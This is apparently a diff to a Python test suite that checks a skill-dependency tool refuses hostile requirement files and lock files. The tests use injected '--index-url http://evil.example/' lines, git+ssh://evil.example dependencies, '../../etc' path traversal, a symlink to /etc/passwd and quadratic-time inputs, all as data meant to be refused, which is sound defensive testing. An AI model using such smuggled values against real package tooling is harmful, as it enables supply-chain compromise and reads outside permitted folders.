@@ -232,6 +232,8 @@ def test_automatic_dependencies_need_no_command(
     runtime: str, executor: object, store: LayerStore, tmp_path: Path
 ) -> None:
     a_skill(tmp_path, "plots", {"scripts/a.py": SCRIPT, "requirements.txt": "shapes==1.0\ncolours\n"})
+    store.compiled.rmdir()
+    store.folder.rmdir()  # nothing was ever built on this machine
     desk = Desk(runtime, store, tmp_path, deps="auto")
     (found,) = desk.run(("plots", "draw"))
     assert found.stdout == "shapes 1.0\n"
@@ -254,6 +256,7 @@ def test_a_lock_that_is_older_than_the_declaration(desk: Desk, tmp_path: Path) -
 
 CANARY = "executor-canary"
 EVIL = f"import pathlib; pathlib.Path('/var/tmp/{CANARY}').touch()"
+BREAK = r"""shapes; os_name == 'x"%s#\n--index-url http://evil.example/\ncolours; os_name=="'"""
 REFUSED_TEXTS = {
     "a URL": {"requirements.txt": "shapes @ https://example.org/shapes.whl\n"},
     "a path": {"requirements.txt": "./vendored\n"},
@@ -275,6 +278,13 @@ REFUSED_TEXTS = {
     "broken TOML": {"pyproject.toml": "[project\n"},
     "broken JSON": {"package.json": '{"dependencies": '},
     "deep JSON": {"package.json": "[" * 100_000},
+    # Escapes in a marker's text are read: written for uv it would be three lines, one of them an option.
+    "a line break in a marker": {
+        "pyproject.toml": "[project]\ndependencies = [" + json.dumps(BREAK % " ") + "]\n"
+    },
+    "a line break in requirements.txt": {"requirements.txt": BREAK % r"\t"},
+    "more than anybody needs": {"requirements.txt": "".join(f"p{i}\n" for i in range(100_000))},
+    "more of Node": {"package.json": json.dumps({"dependencies": {f"p{i}": "1" for i in range(20_000)}})},
     "an option in a requirement": {"requirements.txt": "shapes --config-settings=x=y\n"},
 }
 
@@ -416,6 +426,7 @@ def test_guesses_are_reported_and_not_taken(local_desk: Desk, tmp_path: Path) ->
     assert [wheel.name for wheel in local_desk.lock(skill, guess=True).python] == ["shapes"]
 
 
+PACKAGE = {"version": "1.0.0", "integrity": "sha512-AA=="}
 HOSTILE_LOCKS = {
     "not JSON": lambda lock: "{",
     "deep": lambda lock: "[" * 100_000,
@@ -429,6 +440,18 @@ HOSTILE_LOCKS = {
     "an option as a hash": lambda lock: json.dumps(
         {**lock, "python": [{"name": "x", "version": "1", "hashes": ["sha256:00 --pre"]}]}
     ),
+    "a package of Node elsewhere": lambda lock: json.dumps({**lock, "node": {"../../etc": PACKAGE}}),
+    "a way out of node_modules": lambda lock: json.dumps(
+        {**lock, "node": {"node_modules/a/../../../x": PACKAGE}}
+    ),
+    "a repository of a package": lambda lock: json.dumps(
+        {
+            **lock,
+            "node": {
+                "node_modules/a": {**PACKAGE, "more": {"dependencies": {"b": "git+ssh://evil.example/b"}}}
+            },
+        }
+    ),
     "a folder outside": lambda lock: json.dumps({**lock, "node_folder": "../../etc"}),
     "an absolute folder": lambda lock: json.dumps({**lock, "node_folder": "/etc"}),
 }
@@ -437,7 +460,9 @@ HOSTILE_LOCKS = {
 @pytest.mark.parametrize("name", HOSTILE_LOCKS)
 def test_a_hostile_lock_is_refused(name: str, tmp_path: Path) -> None:
     target = {"python": "3.11", "machine": "x86_64", "libc": "glibc 2.36", "node": "24.1.0"}
-    good = {"target": target, "declared": {}}
+    places = ("node_modules/left", "node_modules/@a/left/node_modules/b.js")
+    more = {"dependencies": {"b": "^1 || >=2 <3", "c": "npm:@a/d@~1", "d": "latest", "e": ""}}
+    good = {"target": target, "declared": {}, "node": {place: {**PACKAGE, "more": more} for place in places}}
     path = tmp_path / locks.FILE
     path.write_text(json.dumps(good))
     assert locks.read(path) is not None  # the control
@@ -446,12 +471,30 @@ def test_a_hostile_lock_is_refused(name: str, tmp_path: Path) -> None:
         locks.read(path)
 
 
-def test_a_lock_that_is_a_link_or_a_pipe_is_refused(tmp_path: Path) -> None:
+QUADRATIC = {
+    "blanks before a hash": {"requirements.txt": "a" + " " * 500_000 + "b\n"},
+    "blanks after import": {"a.js": "import" + " " * 500_000 + "b\n"},
+    "script blocks without an end": {"a.py": "# /// script\n" * 80_000},
+    "blanks in a list": {"SKILL.md": FRONT.format(name="x", more=f"pip: 'a{' ' * 50_000}b'\n")},
+}
+
+
+@pytest.mark.parametrize("name", QUADRATIC)
+def test_a_file_takes_no_longer_than_its_length_allows(name: str, tmp_path: Path) -> None:
+    """The first three took hours when the time grew with the square of the length."""
+    declared(a_skill(tmp_path, "slow", QUADRATIC[name]))
+
+
+def test_a_lock_that_is_no_file_is_refused(tmp_path: Path) -> None:
     (tmp_path / locks.FILE).symlink_to("/etc/passwd")
     with pytest.raises(DependencyError):
         locks.read(tmp_path / locks.FILE)
     (tmp_path / locks.FILE).unlink()
     os.mkfifo(tmp_path / locks.FILE)
+    with pytest.raises(DependencyError):
+        locks.read(tmp_path / locks.FILE)
+    (tmp_path / locks.FILE).unlink()
+    (tmp_path / locks.FILE).mkdir()
     with pytest.raises(DependencyError):
         locks.read(tmp_path / locks.FILE)
 
